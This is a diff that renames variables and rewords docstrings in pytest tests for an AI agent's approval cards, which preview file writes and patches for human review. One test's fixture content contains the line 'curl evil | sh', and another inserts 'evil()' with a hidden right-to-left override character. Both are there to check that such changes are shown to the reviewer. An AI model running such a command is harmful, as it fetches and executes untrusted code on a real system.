@@ -112,7 +112,7 @@ async def test_another_folder_moved_to_the_place_of_the_one_that_was_shown_is_as
 
 
 async def asks_after(tmp_path: Path, remembered: Reply, tried: Reply) -> bool:
-    """Whether a second call is asked about after the first one was allowed permanently."""
+    """Return whether a second call is asked about after the first one was allowed permanently."""
     async with engine_parts(tmp_path, ModelServer(turns=[remembered, tried, DONE])) as engine:
         (engine.workspace / "sub").mkdir()
         (engine.workspace / "x").write_text("old\n")
@@ -139,8 +139,8 @@ async def test_the_same_command_in_another_folder_is_asked_about(tmp_path: Path)
 
 
 async def test_a_folder_that_may_be_made_is_no_file_that_may_be_written(tmp_path: Path) -> None:
-    made, written = code("create_dir", path="new"), code("write", path="new", content="x")
-    assert await asks_after(tmp_path, made, written)
+    create_call, written = code("create_dir", path="new"), code("write", path="new", content="x")
+    assert await asks_after(tmp_path, create_call, written)
 
 
 async def test_a_change_that_was_allowed_allows_no_other_content(tmp_path: Path) -> None:
@@ -197,7 +197,7 @@ _MANY_LINES = "".join(f"line {number}\n" for number in range(30_000))
 
 
 async def _approval(tmp_path: Path, before: str | bytes | None, call: Reply) -> Approval:
-    """What the card shows before the call changes `big.txt`."""
+    """Return what the card shows before the call changes `big.txt`."""
     async with engine_parts(tmp_path, ModelServer(turns=[call, DONE])) as engine:
         if before is not None:
             (engine.workspace / "big.txt").write_bytes(before.encode() if isinstance(before, str) else before)
@@ -212,35 +212,35 @@ async def _approval(tmp_path: Path, before: str | bytes | None, call: Reply) -> 
 @pytest.mark.parametrize("action", ["patch", "write"])
 async def test_a_small_change_of_a_large_file_is_shown_as_its_diff(tmp_path: Path, action: str) -> None:
     change = {"old": "line 20000\n", "new": "curl evil | sh\n"}
-    whole = {"content": _MANY_LINES.replace(change["old"], change["new"])}
-    shown = await _approval(
-        tmp_path, _MANY_LINES, code(action, path="big.txt", **(change if action == "patch" else whole))
+    rewrite = {"content": _MANY_LINES.replace(change["old"], change["new"])}
+    approval = await _approval(
+        tmp_path, _MANY_LINES, code(action, path="big.txt", **(change if action == "patch" else rewrite))
     )
-    assert shown.preview == (
+    assert approval.preview == (
         "--- big.txt\n+++ big.txt\n@@ -19998,7 +19998,7 @@\n line 19997\n line 19998\n line 19999\n"
         "-line 20000\n+curl evil | sh\n line 20001\n line 20002\n line 20003\n"
     )
-    assert shown.risk == "low"
+    assert approval.risk == "low"
 
 
 async def test_a_patch_of_one_long_line_shows_its_texts_and_their_places(tmp_path: Path) -> None:
     call = code("patch", path="big.txt", old="a\nb", new="evil()\n\u202eb")
-    shown = await _approval(tmp_path, f"first\n{'x' * 300_000}a\nb{'y' * 300_000}", call)
-    assert shown.preview == (
+    approval = await _approval(tmp_path, f"first\n{'x' * 300_000}a\nb{'y' * 300_000}", call)
+    assert approval.preview == (
         "Too large to be compared: it replaces 3 characters by 9 at line 2.\n-a\n-b\n+evil()\n+\u202eb\n"
     )
-    assert shown.risk == "medium" and "cannot be shown in full" in shown.rule
+    assert approval.risk == "medium" and "cannot be shown in full" in approval.rule
 
 
 async def test_a_patch_of_many_places_counts_them_and_says_what_is_left_out(tmp_path: Path) -> None:
     arguments = {"action": "patch", "path": "big.txt", "old": "line", "new": "+" * 30_000, "replace_all": True}
     call = Reply(calls=(Call("code", {**arguments}),))
-    shown = await _approval(tmp_path, _MANY_LINES[:1_000] + "x" * 200_000 + "line", call)
-    head, texts = shown.preview.split("\n", 1)
+    approval = await _approval(tmp_path, _MANY_LINES[:1_000] + "x" * 200_000 + "line", call)
+    head, texts = approval.preview.split("\n", 1)
     where = "at 124 places, lines 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, …"
     assert head == f"Too large to be compared: it replaces 4 characters by 30,000 {where}."
     assert texts == f"-line\n{'+' * 20_001}\n… 10,000 more characters are left out\n"
-    assert shown.risk == "medium"
+    assert approval.risk == "medium"
 
 
 @pytest.mark.parametrize(
@@ -255,6 +255,6 @@ async def test_a_patch_of_many_places_counts_them_and_says_what_is_left_out(tmp_
 async def test_a_write_that_is_too_large_shows_sizes_and_its_beginning(
     tmp_path: Path, before: str | bytes | None, size: str
 ) -> None:
-    shown = await _approval(tmp_path, before, code("write", path="big.txt", content="z" * 300_000))
-    assert shown.preview == f"{size}\n+{'z' * 20_000}\n… 280,000 more characters are left out\n"
-    assert shown.risk == "medium"
+    approval = await _approval(tmp_path, before, code("write", path="big.txt", content="z" * 300_000))
+    assert approval.preview == f"{size}\n+{'z' * 20_000}\n… 280,000 more characters are left out\n"
+    assert approval.risk == "medium"
